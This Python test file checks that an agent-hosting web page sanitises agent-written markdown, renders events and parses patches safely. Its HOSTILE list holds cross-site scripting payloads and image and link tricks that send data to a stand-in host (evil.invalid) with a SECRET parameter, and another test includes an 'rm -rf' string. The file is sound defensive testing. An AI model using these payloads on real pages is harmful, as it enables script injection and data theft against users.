"""What the page makes of texts, events and patches, without a browser."""

import html.parser
import subprocess
import sys
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentsdock.web.page import diffs, markdown, rendering, visible
from agentsdock.web.page.rows import Group, grouped, rows

CHAT = "sess_0123456789abcdef"

HOSTILE = [
    "[a](javascript:alert(1))",
    "[b](JaVaScRiPt&#58;alert(1))",
    "[c](data:text/html;base64,PHNjcmlwdD4=)",
    "[d](vbscript:x) [e](file:///etc/passwd) [f](//evil.invalid/p)",
    "<details ontoggle=alert(1) open>",
    "<form action=/api/jobs method=post><button>ok</button></form>",
    "<base href=https://evil.invalid>",
    "<a target=_blank href=https://evil.invalid>x</a>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "![x](https://evil.invalid/p?d=SECRET)",
    "![x](//evil.invalid/p)",
    "![x][r]\n\n[r]: https://evil.invalid/p",
    "<img srcset='https://evil.invalid/p 1x'>",
    "<svg><image href=https://evil.invalid/p /></svg>",
    "<link rel=prefetch href=https://evil.invalid/p>",
    "<video poster=https://evil.invalid/p></video>",
    '<div style="background:url(https://evil.invalid/p)">x</div>',
    "<script>alert(1)</script>",
    "<iframe src=https://evil.invalid></iframe>",
    '[x](https://ok.invalid "\' onmouseover=alert(1)")',
    "<https://evil.invalid/><x-element onclick=alert(1)>",
]
ALLOWED = {
    "class", "dir", "href", "rel", "start", "tabindex", "target", "type",
}  # fmt: skip


def test_a_server_whose_page_nobody_opens_imports_nothing_of_it():
    program = (
        "import sys, agentsdock.app; print(*(name for name in ('markdown_it', 'nh3', 'pygments', "
        "'prometheus_client', 'agentsdock.web.page.views') if name in sys.modules))"
    )
    made = subprocess.run([sys.executable, "-c", program], capture_output=True, check=True)
    assert made.stdout.strip() == b""


class Reader(html.parser.HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.tags = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))


def check_harmless(text):
    for tag, attributes in Reader(text).tags:
        assert tag in markdown._TAGS
        assert set(attributes) <= ALLOWED
        href = attributes.get("href", "https://")
        assert href.startswith(("https://", "http://", "mailto:", f"/api/sessions/{CHAT}/links/"))
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer"


@pytest.mark.parametrize("text", HOSTILE)
def test_what_an_agent_writes_neither_runs_nor_loads_anything(text):
    made = markdown.render(text, CHAT)
    check_harmless(made)
    assert not {tag for tag, _ in Reader(made).tags} & {"img", "form", "script", "style", "iframe"}


@pytest.mark.parametrize("text", HOSTILE)
def test_the_sanitiser_stops_it_alone(text):
    check_harmless(markdown.sanitised(text))


@given(st.text(st.sampled_from("ab<>[]()!`*_#-|:/\\&;\"'= \n\t\u202e"), max_size=200))
def test_no_text_gets_out_of_its_bounds(text):
    check_harmless(markdown.render(text, CHAT))


def test_headings_follow_one_another_without_a_gap():
    made = markdown.render("### deep\n\n# top\n\n###### deepest\n\n## second", CHAT)
    assert [tag for tag, _ in Reader(made).tags] == ["h2", "h2", "h3", "h3"]
    assert 'class="size-3"' in made


def test_images_are_links_and_files_of_the_chat_are_reached():
    made = markdown.render("![a chart](https://x.invalid/c.png) [app](src/app.py)", CHAT)
    assert 'href="https://x.invalid/c.png"' in made
    assert ">a chart</a>" in made
    assert f'href="/api/sessions/{CHAT}/links/file?target=src%2Fapp.py"' in made


def test_code_is_coloured_and_keeps_every_character():
    source = "def f():\n\treturn '<b>'  \n\n"
    made = markdown.render(f"```python\n{source}```", CHAT)
    assert "t-k" in made

    class Code(Reader):
        text = ""
        inside = False

        def handle_starttag(self, tag, attributes):
            self.inside |= tag == "code"

        def handle_data(self, data):
            self.text += data if self.inside else ""

    assert Code(str(made)).text.strip("\n") == source.strip("\n")


@pytest.mark.parametrize(
    "text",
    [
        ">" * 10_000 + " deep",
        "|a|b|\n|-|-|\n" + "|1|2|\n" * 5_000,
        "x" * 1_000_000,
        "*a **b " * 100_000,
        "```python\n" + "x = 1; " * 300_000 + "\n```",
        "[" * 50_000,
    ],
    ids=["quotes", "table", "line", "stars", "code", "brackets"],
)
def test_no_text_takes_long(text):
    began = time.process_time()
    short = markdown.shortened(text)
    markdown.render(short, CHAT)
    assert time.process_time() - began < 5
    assert len(short) <= markdown.MAX_CHARS
    assert text.startswith(short)


def test_marks_that_deceive_are_seen_in_commands_and_names():
    shown = visible.code("rm -rf safe \u202e# x\u200b \x1b[31mred\x1b[0m \x1b[2J<b>")
    assert '<span class="mark">U+202E</span>' in shown
    assert '<span class="mark">U+200B</span>' in shown
    assert '<span class="mark">U+001B</span>[2J' in shown
    assert "red" in shown
    assert "[31m" not in shown
    assert "<b>" not in shown


def test_prose_of_right_to_left_scripts_stays_as_it_is():
    text = "مرحبا \u200fabc\u200e שלום می\u200cخواهم 👩\u200d💻"
    assert visible.prose(text) == text
    assert visible.prose("a\u202eb\u2066c\x1b]0;t\x07") == "a⟨U+202E⟩b⟨U+2066⟩c⟨U+001B⟩]0;t⟨U+0007⟩"


def event(seq, kind, **fields):
    return {"seq": seq, "type": kind, "run_id": "run_1", "ts": "2026-01-02T03:04:05Z", **fields}


def tool(seq, kind, call="c1", **fields):
    return event(
        seq, kind, tool={"id": call, "name": "shell", "input": {"command": "ls"}}, **fields
    )


def test_the_end_of_a_tool_takes_the_place_of_its_start():
    started = rows([tool(1, "tool_started")])
    both = rows([tool(1, "tool_started"), tool(2, "tool_finished", tool_id="c1", outcome="ok")])
    ended = rows([tool(2, "tool_finished", tool_id="c1", outcome="failed", exit_code=1)])
    assert [started[0].key] == [row.key for row in both] == [row.key for row in ended]
    assert [row.shown.state for row in (*started, *both, *ended)] == ["running", "ok", "failed"]
    assert both[0].seq == 1


def test_steps_are_folded_together_and_words_stand_alone():
    found = rows(
        [
            event(1, "turn_started", prompt="go"),
            event(2, "process_started"),
            event(3, "reasoning_summary", text="**Think**\nmore"),
            tool(4, "tool_started"),
            event(5, "assistant_text", text="hello"),
            tool(6, "tool_started", "c2"),
            event(7, "assistant_text", text="   "),
            tool(8, "tool_finished", "c2", outcome="failed"),
            event(9, "turn_finished", result_text="hello"),
        ],
        said=frozenset({9}),
    )
    shapes = [
        (item.kind, len(item.rows)) if isinstance(item, Group) else item.kind
        for item in grouped(found)
    ]
    assert shapes == ["prompt", ("steps", 2), "answer", ("steps", 1), "end"]
    groups = [item for item in grouped(found) if isinstance(item, Group)]
    assert groups[0].told == "2 steps: thought, run"
    assert groups[1].told == "1 step: run · 1 failed"
    assert found[-1].shown is False


def test_every_kind_of_event_has_a_look_and_none_can_break_the_page():
    odd = [
        event(1, "brand_new_thing", words=["<b>"]),
        event(2, "file_uploaded", file={"id": "f", "filename": "<i>\u202e.png", "size": 1}),
        event(3, "file_uploaded", file=None),
        event(4, "error", code="idle_timeout", message="<u>", stderr_tail="\x1b[2J"),
        event(5, "turn_stopped", code="server_restart"),
        event(6, "code_diff", diff_files=[{"path": "<s>", "additions": 1, "deletions": 0}]),
        event(7, "tool_started", tool="not an object"),
        event(8, "tool_finished", tool_id=7, tool={"input": ["x"]}, output=None, outcome=None),
        event(9, "turn_started"),
        event(10, "idle_warning", clock="idle", idle_seconds=60, left_seconds=30),
        event(11, "turn_finished", is_error=True, code="nonzero_exit", result_text=None),
        event(12, "assistant_text", text=None),
        event(13, "handoff_digest_received", digest="## In short <s>", message="A digest of 'x'."),
        event(14, "handoff_digest_sent", message="It is passed on."),
    ]
    filled = rendering.fill(
        "rows.html",
        chat=CHAT,
        items=list(grouped(rows(odd))),
        first=1,
        last=14,
        before=0,
        after=0,
        latest=14,
    )
    tags = {tag for tag, _ in Reader(filled).tags}
    assert not tags & {"i", "u", "s", "script"}
    assert "U+202E" in filled
    assert "Brand new thing" in filled
    assert ">In short &lt;s&gt;</h2>" in filled
    assert "It is passed on." in filled


PATCH = """\
diff --git a/a.py b/b.py
similarity index 90%
rename from a.py
rename to b.py
--- a/a.py
+++ b/b.py
@@ -1,3 +1,3 @@ def f():
 same
-old <b>
+new \u202e
 same
\\ No newline at end of file
diff --git "a/\\303\\244.bin" "b/\\303\\244.bin"
new file mode 100644
Binary files /dev/null and "b/\\303\\244.bin" differ
"""


def test_a_patch_becomes_files_and_numbered_lines():
    patch = diffs.read_patch(PATCH)
    assert patch.files[0].path == "b.py"
    lines = [(line.kind, line.old, line.new) for line in patch.files[0].lines]
    assert lines == [
        ("note", None, None),
        ("note", None, None),
        ("hunk", None, None),
        ("same", 1, 1),
        ("del", 2, None),
        ("add", None, 2),
        ("same", 3, 3),
        ("note", None, None),
    ]
    made = "".join(line.html for line in patch.files[0].lines)
    assert "<b>" not in made
    assert "U+202E" in made
    assert patch.lines_left == 0


def test_a_large_patch_is_cut_and_says_so():
    body = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1,9000 @@\n" + "+y\n" * 9_000
    patch = diffs.read_patch(body)
    assert len(patch.files[0].lines) == diffs.MAX_LINES - 3
    assert patch.lines_left == 9_004 - diffs.MAX_LINES


@pytest.mark.parametrize(
    ("seconds", "shown"), [(0.34, "0.3 s"), (59, "59 s"), (61, "1 m 1 s"), (7260, "2 h 1 m")]
)
def test_times_are_short(seconds, shown):
    assert rendering.in_seconds(seconds) == shown


@pytest.mark.parametrize(
    ("size", "shown"), [(7, "7 B"), (1500, "1.5 KB"), (25_000_000, "25 MB"), (3.2e12, "3.2 TB")]
)
def test_sizes_are_short(size, shown):
    assert rendering.in_bytes(size) == shown
